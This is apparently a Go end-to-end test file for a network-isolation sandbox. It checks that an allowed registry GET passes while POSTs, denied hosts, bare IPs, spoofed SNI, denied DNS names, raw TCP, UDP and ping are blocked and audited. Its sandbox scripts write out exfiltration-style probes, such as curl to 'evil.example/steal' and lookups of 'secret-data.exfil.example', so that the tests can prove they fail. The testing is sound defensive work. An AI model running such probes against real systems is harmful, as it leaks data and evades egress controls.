package e2e

import (
	"net/http"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/audit"
)

// kv parses the "key=value" lines a sandbox script prints.
func kv(out string) map[string]string {
	m := map[string]string{}
	for _, line := range strings.Split(out, "\n") {
		if k, v, ok := strings.Cut(strings.TrimSpace(line), "="); ok && k != "" && !strings.ContainsAny(k, " \t") {
			m[k] = v
		}
	}
	return m
}

func wantKV(t *testing.T, m map[string]string, key, want string, res result) {
	t.Helper()
	if got := m[key]; got != want {
		t.Errorf("%s: got %q, want %q\n%s", key, got, want, res)
	}
}

func noRequests(t *testing.T, what string, seen []*http.Request, bad func(*http.Request) bool) {
	t.Helper()
	for _, r := range seen {
		if bad(r) {
			t.Errorf("%s: the fake server received %s %s", what, r.Method, r.URL)
		}
	}
}

// TestRootCurlExplicitProxy: through HTTPS_PROXY, a registry GET passes (TLS
// intercepted with the per-run CA the sandbox trusts), a POST to the registry
// is refused before it reaches the server, and a host no rule allows gets no
// connection at all.
func TestRootCurlExplicitProxy(t *testing.T) {
	e := newEnv(t, "")
	pypiBefore, evilBefore := snap(w.pypi), snap(w.evil)
	seenBefore := len(w.pypi.Seen())
	res := e.sh([]string{"--id", sandboxID("curl")}, `
curl -sS --max-time 60 -o /tmp/body -w 'get=%{http_code}\n' https://pypi.org/simple/
echo "body=$(cat /tmp/body)"
curl -sS --max-time 60 -o /dev/null -w 'post=%{http_code}\n' -X POST --data-binary upload=1 https://pypi.org/legacy/
curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\n' https://evil.example/steal?k=v
echo "evil_exit=$?"
`)
	wantCode(t, res, 0)
	m := kv(res.stdout)
	wantKV(t, m, "get", "200", res)
	wantKV(t, m, "body", "hello from pypi.org/simple/", res)
	wantKV(t, m, "post", "403", res)
	wantKV(t, m, "evil", "403", res)
	wantKV(t, m, "evil_exit", "56", res)

	seen := seenSince(w.pypi, seenBefore)
	noRequests(t, "POST to a read-only registry", seen, func(r *http.Request) bool { return r.Method != http.MethodGet })
	if d := snap(w.pypi).sub(pypiBefore); d.requests != 1 {
		t.Errorf("pypi.org: got %d requests, want 1 (the GET)", d.requests)
	}
	if d := snap(w.evil).sub(evilBefore); d.conns != 0 || d.requests != 0 {
		t.Errorf("evil.example: got %d connections, %d requests, want 0 and 0", d.conns, d.requests)
	}

	recs := e.records()
	mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionAllow, host: "pypi.org"})
	mustFind(t, recs, match{kind: audit.KindHTTP, decision: audit.DecisionAllow, host: "pypi.org", method: "GET", path: "/simple/"})
	post := mustFind(t, recs, match{kind: audit.KindHTTP, decision: audit.DecisionDeny, host: "pypi.org", method: "POST"})
	if post.Status != http.StatusForbidden {
		t.Errorf("denied POST audit status: got %d, want 403", post.Status)
	}
	mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionDeny, host: "evil.example"})
	mustNotFind(t, recs, match{decision: audit.DecisionAllow, host: "evil.example"})
}

// TestRootCurlTransparent: with the proxy variables ignored (--noproxy '*'),
// TCP is captured by the namespace's rules. An allowed name passes by SNI and
// by Host; a bare IP of a host no rule allows gets no connection, over HTTP,
// TLS or raw TCP.
func TestRootCurlTransparent(t *testing.T) {
	e := newEnv(t, "")
	evilBefore := snap(w.evil)
	pypiSeen := len(w.pypi.Seen())
	ip := w.evil.IP.String()
	res := e.sh([]string{"--id", sandboxID("transparent")}, `
curl -sS --noproxy '*' --max-time 60 -o /dev/null -w 'tls=%{http_code}\n' https://pypi.org/simple/
curl -sS --noproxy '*' --max-time 60 -o /dev/null -w 'http=%{http_code}\n' http://pypi.org/simple/
curl -sS --noproxy '*' --max-time 30 -o /dev/null -w 'evil_http=%{http_code}\n' http://`+ip+`/
curl -sS --noproxy '*' --max-time 30 -o /dev/null https://`+ip+`/; echo "evil_tls_exit=$?"
curl -sS --noproxy '*' --max-time 30 -o /dev/null --resolve evil.example:443:`+ip+` https://evil.example/; echo "evil_sni_exit=$?"
python3 - <<'EOF'
import socket
s = socket.create_connection(("`+ip+`", 7), timeout=20)
try:
    s.sendall(b"raw tcp payload\n")
    print("raw_tcp=%r" % s.recv(100))
except OSError as e:
    print("raw_tcp_error=%s" % type(e).__name__)
EOF
true
`)
	wantCode(t, res, 0)
	m := kv(res.stdout)
	wantKV(t, m, "tls", "200", res)
	wantKV(t, m, "http", "200", res)
	wantKV(t, m, "evil_http", "403", res)
	if m["evil_tls_exit"] == "0" || m["evil_sni_exit"] == "0" {
		t.Errorf("TLS to a denied IP succeeded\n%s", res)
	}
	if v, ok := m["raw_tcp"]; ok && v != "b''" {
		t.Errorf("raw TCP to a denied IP got an answer %s\n%s", v, res)
	}
	if d := snap(w.evil).sub(evilBefore); d.conns != 0 || d.requests != 0 {
		t.Errorf("denied IP %s: got %d connections, %d requests, want 0 and 0\n%s", ip, d.conns, d.requests, res)
	}
	got := 0
	for _, r := range seenSince(w.pypi, pypiSeen) {
		if r.Method == http.MethodGet && r.URL.Path == "/simple/" {
			got++
		}
	}
	if got != 2 {
		t.Errorf("pypi.org received %d GET /simple/, want 2 (TLS and plain HTTP)", got)
	}
	recs := e.records()
	if n := len(find(recs, match{kind: audit.KindHTTP, decision: audit.DecisionAllow, host: "pypi.org", method: "GET"})); n != 2 {
		t.Errorf("got %d allowed GET records for pypi.org, want 2\n%s", n, dump(recs))
	}
	mustFind(t, recs, match{decision: audit.DecisionDeny, host: ip})
	mustNotFind(t, recs, match{decision: audit.DecisionAllow, host: ip})
	mustNotFind(t, recs, match{decision: audit.DecisionAllow, host: "evil.example"})
}

// TestRootDNSFiltered: DNS to any server is answered by the filter. Allowed
// names resolve through the fake resolver; denied names get NXDOMAIN and the
// fake resolver never hears of them, over UDP or TCP, whichever server the
// client names.
func TestRootDNSFiltered(t *testing.T) {
	e := newEnv(t, "")
	dnsIP := w.net.DNSAddr.Addr().String()
	const secretName = "secret-data.exfil.example"
	before := map[string]int64{}
	for _, n := range []string{secretName, "evil.example", "tcp.exfil.example", "pypi.org"} {
		before[n] = w.net.Queries(n)
	}
	res := e.sh([]string{"--id", sandboxID("dns")}, `
echo "dig_allowed=$(dig +short +time=10 +tries=2 @`+dnsIP+` pypi.org A)"
echo "dig_other_server=$(dig +short +time=10 +tries=2 @198.18.0.53 pypi.org A)"
echo "getent_allowed=$(getent ahostsv4 pypi.org | awk 'NR==1{print $1}')"
echo "dig_denied=$(dig +time=10 +tries=2 @`+dnsIP+` `+secretName+` A | grep -o 'status: [A-Z]*' | cut -d' ' -f2)"
echo "dig_denied_tcp=$(dig +tcp +time=10 +tries=2 @198.18.0.53 tcp.exfil.example A | grep -o 'status: [A-Z]*' | cut -d' ' -f2)"
getent hosts evil.example >/dev/null; echo "getent_denied=$?"
`)
	wantCode(t, res, 0)
	m := kv(res.stdout)
	want := w.pypi.IP.String()
	wantKV(t, m, "dig_allowed", want, res)
	wantKV(t, m, "dig_other_server", want, res)
	wantKV(t, m, "getent_allowed", want, res)
	wantKV(t, m, "dig_denied", "NXDOMAIN", res)
	wantKV(t, m, "dig_denied_tcp", "NXDOMAIN", res)
	wantKV(t, m, "getent_denied", "2", res)
	for _, n := range []string{secretName, "evil.example", "tcp.exfil.example"} {
		if d := w.net.Queries(n) - before[n]; d != 0 {
			t.Errorf("the fake resolver got %d queries for denied %s, want 0", d, n)
		}
	}
	if w.net.Queries("pypi.org") == before["pypi.org"] {
		t.Errorf("the fake resolver got no query for allowed pypi.org: the filter did not forward it")
	}
	recs := e.records()
	d := mustFind(t, recs, match{kind: audit.KindDNS, decision: audit.DecisionDeny, qname: secretName})
	if d.RCode != "NXDOMAIN" {
		t.Errorf("denied query rcode: got %q, want NXDOMAIN", d.RCode)
	}
	mustFind(t, recs, match{kind: audit.KindDNS, decision: audit.DecisionDeny, qname: "tcp.exfil.example"})
	mustFind(t, recs, match{kind: audit.KindDNS, decision: audit.DecisionAllow, qname: "pypi.org"})
}

// TestRootUDPAndICMPDropped: datagrams and pings to a fake host never arrive.
func TestRootUDPAndICMPDropped(t *testing.T) {
	e := newEnv(t, "")
	ip := w.evil.IP.String()
	before := snap(w.evil)
	icmpBefore, err := w.net.ICMPEchoRequests()
	if err != nil {
		t.Fatal(err)
	}
	res := e.sh([]string{"--id", sandboxID("udp")}, `
python3 - <<'EOF'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = 0
for port in (7, 53, 9999):
    for _ in range(3):
        try:
            s.sendto(b"udp payload", ("`+ip+`", port))
            sent += 1
        except OSError:
            pass
print("udp_attempts=done")
EOF
ping -c 3 -W 1 `+ip+` >/dev/null 2>&1; echo "ping_exit=$?"
`)
	wantCode(t, res, 0)
	m := kv(res.stdout)
	wantKV(t, m, "udp_attempts", "done", res)
	if m["ping_exit"] == "0" {
		t.Errorf("ping to %s succeeded\n%s", ip, res)
	}
	if d := snap(w.evil).sub(before); d.udp != 0 || d.conns != 0 {
		t.Errorf("%s: got %d datagrams, %d connections, want 0 and 0", ip, d.udp, d.conns)
	}
	icmpAfter, err := w.net.ICMPEchoRequests()
	if err != nil {
		t.Fatal(err)
	}
	if icmpAfter != icmpBefore {
		t.Errorf("the fake internet counted %d echo requests, want 0", icmpAfter-icmpBefore)
	}
}
